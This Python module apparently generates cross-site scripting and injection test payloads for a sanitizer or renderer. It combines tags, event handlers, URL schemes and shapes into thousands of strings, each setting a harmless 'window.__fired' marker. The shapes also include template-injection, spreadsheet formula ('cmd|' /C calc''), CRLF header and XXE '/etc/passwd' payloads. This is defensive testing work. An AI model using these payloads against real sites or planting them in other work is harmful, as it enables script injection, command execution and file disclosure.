"""Payloads: words that would run as a script, or reach out, wherever a page takes them for more than words. Made from a grammar.

Each names `FIRED`, so that a browser that runs one says so.
"""

# ruff: noqa: E501  (a payload more, not a line more)

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import chain, product

FIRED = "window.__fired=1"
_TAGS = (
    "img src=x", "svg", "svg/", "body", "iframe", "video src=x", "audio src=x", "details open", "input autofocus", "select autofocus",
    "textarea autofocus", "marquee", "math", "object data=x", "embed src=x", "a href=#", "div", "style", "button", "p", "table background=x",
    "link rel=stylesheet href=x", "meta", "x-own tabindex=1", "form", "isindex", "image src=x", "keygen autofocus", "source", "track default",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onclick", "onstart", "onanimationstart", "ontransitionend", "onbegin",
    "onpageshow", "onhashchange", "onpointerover", "oncopy", "onbeforeinput", "onscroll", "OnErRoR", "onerror\x00", "onwheel", "onresize",
)  # fmt: skip
_AROUND = (
    "<{tag} {event}={js}>", '<{tag} {event}="{js}">', "<{tag}/{event}='{js}'//", "<{tag}\n{event}\n=\n`{js}`>", '"><{tag} {event}={js}>',
    "'><{tag} {event}={js} x='", "</title><{tag} {event}={js}>", "--><{tag} {event}={js}><!--", "]]><{tag} {event}={js}>",
    "</textarea></script></style><{tag} {event}={js}>", "<<{tag} {event}={js}>", "<{tag} {event}={js} ", "\x00<{tag} {event}={js}>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "java\tscript:{js}", "java\nscript:{js}", "\x01javascript:{js}",
    "javascript&colon;{js}", "&#106;avascript:{js}", "&#x6A;avascript:{js}", "javascript://x.invalid/%0A{js}", "vbscript:{js}",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload={js}>", "feed:javascript:{js}",
    "view-source:javascript:{js}", "blob:{js}", "jar:javascript:{js}!/", "\u3000javascript:{js}", "//x.invalid/{js}", "\\\\x.invalid\\{js}",
    "https:javascript:{js}", "http://x.invalid/\"onclick={js}//", "http://x.invalid/'onclick={js}//", "http://x.invalid/><script>{js}</script>",
    "http://x.invalid/ onclick={js}", "http://x.invalid/`{js}`", "http://x.invalid/)[a](javascript:{js}",
)  # fmt: skip
_CARRIERS = (
    "{url}", '<a href="{url}">read</a>', "<a href={url}>read</a>", '<iframe src="{url}"></iframe>', '<form action="{url}"><button>go</button></form>',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>', '<math href="{url}">x</math>', '<base href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">', '<object data="{url}"></object>', "[read]({url})", "[read]( <{url}> )",
    "![read]({url})", "<{url}>", '[a]: {url} "t"', '<link rel="import" href="{url}">', '<button formaction="{url}">go</button>',
    '<div style="background:url({url})">', "<style>@import '{url}';</style>", '<use href="{url}">', '<img srcset="{url} 1x">',
)  # fmt: skip
_SHAPES = (
    "<script>{js}</script>", "<script src=//x.invalid/a.js></script>", "<scr<script>ipt>{js}</scr</script>ipt>", "</script><script>{js}</script>",
    '"}}</script><script>{js}</script>', "<!--><script>{js}</script>-->", "<![CDATA[><script>{js}</script>]]>", "<?xml ><script>{js}</script>?>",
    "<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>", "<iframe srcdoc='&lt;script&gt;parent.{js}&lt;/script&gt;'></iframe>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{js}>", "<template><script>{js}</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror={js}>\">", "<plaintext><script>{js}</script>", "<title><img src=x onerror={js}></title>",
    "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}", "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}", "#{{{js}}}", "<%= {js} %>",
    "{{{{7*7}}}}{{{{config}}}}", "+ADw-script+AD4-{js}+ADw-/script+AD4-", "\u2028{js}//\u2029", "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "&lt;script&gt;{js}&lt;/script&gt;", "&amp;lt;script&amp;gt;{js}", "＜script＞{js}＜/script＞", "<\u212Aeygen autofocus onfocus={js}>", "<ſcript>{js}</ſcript>",
    "expression({js})", "<div style=\"width:expression({js})\">", "<style>*{{background:url(javascript:{js})}}</style>", "<style>*{{content:url(//x.invalid/)}}</style>",
    "=cmd|' /C calc'!A0 {js}", "+1+cmd|' /C calc'!A0 {js}", "@SUM(1+1)*cmd|' /C calc'!A0 {js}", "-2+3+cmd|' /C calc'!A0 {js}", "\t=1+1 {js}", "\r=HYPERLINK(\"http://x.invalid\",\"{js}\")",
    "Subject\r\nBcc: all@x.invalid\r\n\r\n<script>{js}</script>", "x\nSet-Cookie: a=b\n{js}", "=?utf-8?B?PHNjcmlwdD4=?= {js}", "--=_b\r\nContent-Type: text/html\r\n\r\n<script>{js}</script>",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\n{js}", "x\\nATTACH:http://x.invalid/{js}", "<b onmouseover={js}//<b>", "`<img src=x onerror={js}>`",
    "```\n<script>{js}</script>\n```", "[^s1]: <script>{js}</script>", "---\nlayout: {js}\n---", "<details open ontoggle={js}>", "\\<img src=x onerror={js}>", "\\\\<img src=x onerror={js}>",
    "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>", "</title></entry><entry><title>{js}", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{js}",
    "__proto__ {js}", "constructor {js}", "');{js}//", "\");{js}//", "`;{js}//", "*/{js}/*", "</svg><script>{js}</script>", "\u202e<script>{js}</script>", "<\u200bscript>{js}</script>",
)  # fmt: skip


def payloads(count: int, seed: int = 5) -> list[str]:
    """So many payloads, all different: every shape, then a draw from all combinations."""
    shapes = [shape.format(js=FIRED) for shape in _SHAPES]
    drawn = list(chain(_events(), _links()))
    random.Random(seed).shuffle(drawn)
    made = list(dict.fromkeys([*shapes, *drawn]))
    assert len(made) >= count
    return made[:count]


def _events() -> Iterator[str]:
    for tag, event, around in product(_TAGS, _EVENTS, _AROUND):
        yield around.format(tag=tag, event=event, js=FIRED)


def _links() -> Iterator[str]:
    for carrier, scheme in product(_CARRIERS, _SCHEMES):
        yield carrier.format(url=scheme.format(js=FIRED))


def addresses(count: int, seed: int = 6) -> list[str]:
    """So many addresses of pages, again and again."""
    dice = random.Random(seed)
    return [dice.choice(_SCHEMES).format(js=f"{FIRED}+{number}") for number in range(count)]
